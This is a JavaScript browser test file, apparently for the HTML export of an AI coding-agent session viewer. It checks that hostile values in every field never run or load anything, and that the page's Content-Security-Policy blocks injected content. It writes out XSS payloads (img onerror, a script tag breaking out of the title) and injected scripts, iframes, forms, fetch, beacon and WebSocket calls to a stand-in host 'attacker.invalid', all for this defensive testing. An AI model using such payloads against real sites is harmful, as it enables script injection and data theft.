// Hostile values in every field: none runs, none sends a request, none becomes an element of the page.
import assert from "node:assert/strict";
import { test } from "node:test";
import { exported, foreignRequests, open, PNG, search, Session, settled, SVG, useBrowser } from "./lib.mjs";
import { markdown, values } from "./hostile.mjs";

const browser = useBrowser();

/** Notes every element that the page adds, and what no element of ours has. Runs in the page. */
const watch = () => {
  const elements = new Set(
    "a article aside b blockquote br button caption circle code dd details dialog div dl dt em figcaption figure h1 h2 header hr i img li ol p pre s span strong summary table tbody td th thead time tr ul".split(" "),
  );
  const attributes = new Set(
    "alt aria-hidden aria-label aria-level aria-selected aria-expanded class data-class data-image data-line data-more data-row data-type datetime disabled height href id open rel role src start style tabindex title type width".split(" "),
  );
  window.seenRows = new Set();
  window.seenLines = new Set();
  window.strange = [];
  const inspect = (root) => {
    for (const element of [root, ...root.querySelectorAll("*")]) {
      if (!elements.has(element.localName) || element.namespaceURI !== "http://www.w3.org/1999/xhtml") window.strange.push(element.outerHTML.slice(0, 200));
      for (const { name, value } of element.attributes) {
        if (!attributes.has(name)) window.strange.push(`${name} of ${element.outerHTML.slice(0, 200)}`);
        if (name === "href" && !/^(https?:\/\/|mailto:|#)/i.test(value)) window.strange.push(`address ${value}`);
        if (name === "src" && !/^data:image\/(png|jpeg|gif|webp);base64,[\w+/=]*$/.test(value)) window.strange.push(`source ${value}`);
        if (name === "style" && !element.matches(".pad, .line, .spacer")) window.strange.push(`style ${value}`);
        if (name === "type" && value !== "button") window.strange.push(`type ${value}`);
      }
    }
  };
  document.addEventListener("DOMContentLoaded", () => {
    if (location.protocol !== "file:") return;
    new MutationObserver((records) => {
      for (const { addedNodes } of records) {
        for (const node of addedNodes) {
          if (node.nodeType !== 1) continue;
          inspect(node);
          if (node.dataset.row) window.seenRows.add(Number(node.dataset.row));
          if (node.dataset.line) window.seenLines.add(Number(node.dataset.line));
        }
      }
    }).observe(document.body, { childList: true, subtree: true });
    inspect(document.querySelector("main .card"));
    for (const article of document.querySelectorAll("article")) inspect(article);
  });
};

/** Adds entries with a value in every field that an entry of pi may have. The first has a harmless id. */
function addEntries(s, v, at) {
  const text = typeof v === "string" ? v : JSON.stringify(v);
  const hostileId = `${text}\u0020${at}`;
  const image = { type: "image", mimeType: v, data: v, filename: v };
  const usage = { input: v, output: v, cacheRead: v, cacheWrite: v, totalTokens: v, cost: { input: v, output: v, total: v, currency: v } };
  const target = s.add({ id: `v${at}`, type: "message", message: { role: "user", content: v, timestamp: v } });
  const add = (entry) => s.lines.push({ id: `${at}.${s.lines.length}`, parentId: s.leaf, timestamp: "2026-03-01T10:00:00.000Z", ...entry }) && (s.leaf = s.lines.at(-1).id);
  s.add({ id: hostileId, type: "message", timestamp: v, message: { role: "user", content: [{ type: "text", text: v, textSignature: v }, image, { type: "image", mimeType: "image/svg+xml", data: SVG }, { type: v, text: v }, v] } });
  const call = (name, args) => ({ type: "toolCall", id: v, name, arguments: args, thoughtSignature: v });
  add({
    type: "message",
    message: {
      role: "assistant", api: v, provider: v, model: v, responseId: v, usage, stopReason: v, errorMessage: v, durationMs: v, thinkingLevel: v,
      diagnostics: [{ type: v, error: { name: v, message: v, stack: v } }, v],
      content: [
        { type: "text", text: v }, { type: "thinking", thinking: v, thinkingSignature: v }, { type: "thinking", thinking: v, redacted: true }, { type: "text", text: `before ${text}\n\n${text}` },
        call("bash", { command: v, timeout: v }), call("read", { path: v, offset: v, limit: v }), call("write", { path: v, content: v }), call("edit", { path: v, edits: [{ oldText: v, newText: `${text} new` }] }),
        call("grep", { pattern: v, path: v, glob: v }), call("find", { pattern: v, path: v }), call("ls", { path: v }), call(v, { [typeof v === "string" ? v : "key"]: v, nested: [v, { deep: v }] }), call(v, v), { ...call("bash", v), argumentsError: v },
      ],
    },
  });
  add({ type: "message", message: { role: "toolResult", toolCallId: v, toolName: v, content: [{ type: "text", text: v }, image, { type: "image", mimeType: v, data: PNG }, v], details: { diff: v, patch: v, truncation: v, fullOutputPath: v }, isError: v, usage, durationMs: v, nestedCalls: { calls: [{ id: v, name: v, arguments: { a: v }, status: v, durationMs: v, error: v }, v], complete: v } } });
  add({ type: "message", message: { role: "toolResult", toolCallId: v, toolName: "edit", content: v, details: { diff: `-1 ${text}\n+1 ${text}\n${text}` }, isError: true } });
  add({ type: "message", message: { role: "bashExecution", command: v, output: v, exitCode: v, cancelled: v, truncated: v, fullOutputPath: v, excludeFromContext: v } });
  add({ type: "message", message: { role: at % 2 ? v : "system", content: v, customType: v, summary: v } });
  add({ type: "custom_message", customType: v, content: v, display: v, details: v });
  add({ type: "compaction", summary: v, firstKeptEntryId: v, tokensBefore: v, details: { readFiles: [v], modifiedFiles: [v] }, usage });
  add({ type: "branch_summary", fromId: v, summary: v, details: { readFiles: [v, v] }, usage });
  add({ type: "model_change", provider: v, modelId: v });
  add(at % 2 ? { type: "thinking_level_change", thinkingLevel: v } : { type: "session_info", name: v });
  add({ type: "label", targetId: target, label: v });
  add(at % 2 ? { type: "usage", kind: v, provider: v, model: v, note: v, usage } : { type: "context_edit", targetId: v, replacement: { content: v } });
  add(at % 2 ? { type: "custom", customType: v, data: v } : { type: v, anything: v });
}

function assertNothingHappened(page, what) {
  assert.deepEqual([page.seen.executed, page.seen.violations, foreignRequests(page), page.seen.errors], [[], [], [], []], what);
}

/** Opens every entry of a session, and every line of its tree; uses every key and filter. */
async function walk(page, n) {
  await page.keyboard.press("o");
  await page.keyboard.press("s");
  await settled(page);
  await page.evaluate(async (n) => {
    const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
    const size = window.groupSize;
    for (let at = 0; at < n; at++) {
      // The page draws more entries than those on the screen, so some groups are there already.
      let row = 1 + at * size;
      while (row < 1 + (at + 1) * size && window.seenRows.has(row)) row++;
      if (row === 1 + (at + 1) * size) continue;
      location.hash = `#entry-v${at}`;
      const end = performance.now() + 10000;
      do await frame();
      while (!document.getElementById(`entry-v${at}`) && performance.now() < end);
    }
    document.getElementById("filter").value = "all";
    document.getElementById("filter").dispatchEvent(new Event("change"));
    await frame();
    await frame();
    const tree = document.getElementById("tree");
    for (let y = 0; y <= tree.scrollHeight; y += tree.clientHeight) {
      tree.scrollTop = y;
      await frame();
    }
  }, n);
  for (const key of ["g", "n", "n", "p", "G", "e", "Home", "ArrowDown", "Enter", "ArrowLeft", "ArrowRight", "End", "Enter", "f", "f", "f", "f", "f", "t", "t", "o", "s", "b", "b", "d", "d", "?", "Escape"]) await page.keyboard.press(key);
  await settled(page);
}

const sessions = { "one file": false, split: true };
for (const [name, isSplit] of Object.entries(sessions)) {
  test(`hostile values in every field: ${name}`, async () => {
    assert.ok(values.length >= 500 && markdown.length >= 65, `${values.length} values`);
    const used = isSplit ? values.filter((_, at) => at % 8 === 0) : values;
    const s = new Session();
    used.forEach((value, at) => addEntries(s, value, at));
    const page = await browser.tab({ init: watch });
    await open(page, exported(s, { isSplit }));
    await page.evaluate((size) => { window.groupSize = size; }, (s.lines.length - 1) / used.length);
    await walk(page, used.length);
    const { rows, strange } = await page.evaluate(() => ({ rows: window.seenRows.size, strange: window.strange }));
    assert.deepEqual(strange.slice(0, 10), [], `${strange.length} strange elements`);
    assert.ok(rows >= s.lines.length - 1, `${rows} of ${s.lines.length - 1} entries were drawn`);
    for (const value of used.filter((value, at) => typeof value === "string" && value.trim() && at % (isSplit ? 9 : 90) === 0)) {
      await search(page, value.slice(0, 300));
      await page.press("#search", "Enter");
      await settled(page);
    }
    await page.press("#search", "Escape");
    assertNothingHappened(page, name);
    const lines = await page.evaluate(() => window.seenLines.size);
    assert.ok(lines > used.length * 10, `${lines} lines of the tree were drawn`);
  });
}

test("hostile names, folders, labels and times of the session itself", async () => {
  const page = await browser.tab({ init: watch });
  const texts = values.filter((value) => typeof value === "string");
  const groups = [];
  for (let at = 0; at < texts.length; at += 60) groups.push(texts.slice(at, at + 60).join(" "));
  for (const text of [...groups, `<img src=x onerror=canary(1)>`, `</title><script>canary(1)</script>`]) {
    const s = new Session({ id: text, cwd: text, timestamp: text, parentSession: text, provider: text });
    s.user(text);
    s.add({ type: "session_info", name: text });
    s.add({ type: "label", targetId: s.leaf, label: text });
    s.answer("fine", { model: text, provider: text });
    const name = "<img src=x onerror=canary(1)>'\"&.jsonl";
    await open(page, exported(s, { name }));
    assert.ok((await page.title()).length > 0);
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download")]);
    assert.match(download.suggestedFilename(), /^[\w.-]+$/);
    assert.deepEqual(await page.evaluate(() => window.strange), []);
    assertNothingHappened(page, text);
  }
});

test("hostile values in the windows of long texts", async () => {
  const page = await browser.tab({ init: watch });
  const text = values.filter((value) => typeof value === "string").join("\n");
  const s = new Session();
  const long = `${text}\n`.repeat(4);
  const results = [s.tool("bash", { command: "x" }, long).result, s.tool("write", { path: "a.html", content: long }, "x").call, s.answer(long)];
  await open(page, exported(s));
  for (const id of results) {
    await page.evaluate((id) => { location.hash = `#entry-${id}`; }, id);
    await settled(page);
    const entry = page.locator(`#entry-${id}`);
    for (const details of await entry.locator("details.rest").all()) await details.evaluate((element) => { element.open = true; });
    for (let n = 0; n < 20 && (await entry.locator("button.more").count()); n++) {
      await entry.locator("button.more").first().evaluate((button) => button.click());
      await settled(page);
    }
    assert.ok((await entry.locator("pre, .md").count()) > 4);
  }
  assert.deepEqual(await page.evaluate(() => window.strange), []);
  assertNothingHappened(page, "long texts");
});

test("hostile addresses of the page", async () => {
  const page = await browser.tab({ init: watch });
  const s = new Session();
  s.user("hello");
  const address = exported(s);
  for (const value of values.filter((value, at) => typeof value === "string" && at % 50 === 0)) {
    const text = encodeURIComponent(value.toWellFormed?.() ?? value.replace(/[\ud800-\udfff]/g, ""));
    await open(page, `${address}?leafId=${text}&targetId=${text}#entry-${text}`);
    assert.ok(await page.isVisible("article"));
    assert.deepEqual(await page.evaluate(() => window.strange), []);
    assertNothingHappened(page, value);
  }
});

test("without JavaScript nothing runs and nothing is loaded", async () => {
  const page = await browser.tab({ javaScript: false });
  for (let from = 0; from < values.length; from += 140) {
    const s = new Session();
    s.user(values.slice(from, from + 140).filter((value) => typeof value === "string").join("\n\n"));
    page.seen.requests.length = 0;
    await page.goto(exported(s));
    assert.deepEqual(foreignRequests(page), []);
  }
});

test("the policy of the page stops what would get past everything else", async () => {
  for (const isSplit of [false, true]) {
    const s = new Session();
    s.user("hello");
    const page = await browser.tab();
    await open(page, exported(s, { isSplit }));
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    // The search of the page runs in a worker made from the page's own script.
    assert.doesNotMatch(policy.replace("worker-src blob:;", ""), /unsafe|\*|https?:|blob:/);
    assert.match(policy, /default-src 'none'/);
    assert.equal(await page.$eval("head", (head) => head.children[1].httpEquiv), "Content-Security-Policy", "before any style or script");
    await page.evaluate(() => {
      const add = (html) => { const box = document.createElement("div"); document.body.append(box); box.innerHTML = html; };
      add('<img src=x onerror="canary(1)">');
      add('<img src="http://attacker.invalid/i.png"><iframe src="http://attacker.invalid/"></iframe><link rel=stylesheet href="http://attacker.invalid/s.css"><object data="http://attacker.invalid/"></object>');
      add('<form id=f action="http://attacker.invalid/"></form>');
      document.getElementById("f").submit();
      const script = document.createElement("script");
      script.textContent = "canary(2)";
      document.body.append(script);
      const remote = document.createElement("script");
      remote.src = "http://attacker.invalid/a.js";
      document.body.append(remote);
      const data = document.createElement("script");
      data.src = "data:text/javascript,canary(3)";
      document.body.append(data);
      const base = document.createElement("base");
      base.href = "http://attacker.invalid/";
      document.head.append(base);
      fetch("http://attacker.invalid/f").catch(() => {});
      navigator.sendBeacon?.("http://attacker.invalid/b");
      try { new WebSocket("ws://attacker.invalid/"); } catch {}
      try { new EventSource("http://attacker.invalid/e"); } catch {}
      try { new Worker("data:text/javascript,postMessage(1)"); } catch {}
    });
    await page.waitForFunction(() => true);
    await new Promise((resolve) => setTimeout(resolve, 300));
    assert.deepEqual(page.seen.executed, []);
    assert.ok(page.seen.violations.length >= 8, String(page.seen.violations));
    const fromWorker = await page.evaluate(() => new Promise((resolve) => {
      const code = 'fetch("data:text/plain,x").then(() => postMessage("sent"), () => postMessage("blocked"))';
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = () => resolve("not started");
    }));
    assert.equal(fromWorker, "blocked", "a worker has the policy of the page");
    assert.ok(page.url().startsWith("file:"));
    assert.equal(await page.evaluate(() => document.baseURI.startsWith("file:")), true);
  }
});
